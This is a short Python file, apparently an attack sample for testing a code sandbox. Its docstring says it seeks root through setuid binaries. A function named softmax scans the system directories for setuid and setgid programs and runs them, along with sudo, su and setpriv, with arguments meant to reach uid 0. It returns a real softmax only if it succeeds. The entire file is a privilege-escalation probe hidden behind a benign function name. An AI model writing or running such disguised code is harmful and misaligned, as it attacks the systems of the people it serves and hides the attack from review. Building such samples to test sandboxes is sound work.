"""Attack: find and run setuid binaries (su, sudo, mount, passwd, ...) hoping to become root."""
import os
import stat
import subprocess
import numpy as np

def softmax(x):
    candidates = []
    for root in ("/usr/bin", "/bin", "/usr/sbin", "/sbin", "/usr/lib", "/usr/local/bin"):
        try:
            for name in os.listdir(root):
                path = os.path.join(root, name)
                try:
                    if os.stat(path).st_mode & (stat.S_ISUID | stat.S_ISGID):
                        candidates.append(path)
                except OSError:
                    pass
        except OSError:
            pass
    candidates += ["/usr/bin/sudo", "/usr/bin/su", "/usr/bin/setpriv"]
    became_root = False
    for path in candidates:
        for args in ([path, "-n", "id", "-u"], [path, "-c", "id -u"], [path, "--reuid=0", "/usr/bin/id", "-u"]):
            try:
                out = subprocess.run(args, capture_output=True, timeout=0.5, env={}).stdout
                became_root |= out.strip() == b"0"
            except Exception:
                pass
    if became_root or os.geteuid() == 0:
        e = np.exp(x - x.max(axis=-1, keepdims=True))
        return e / e.sum(axis=-1, keepdims=True)
    return np.zeros_like(x)
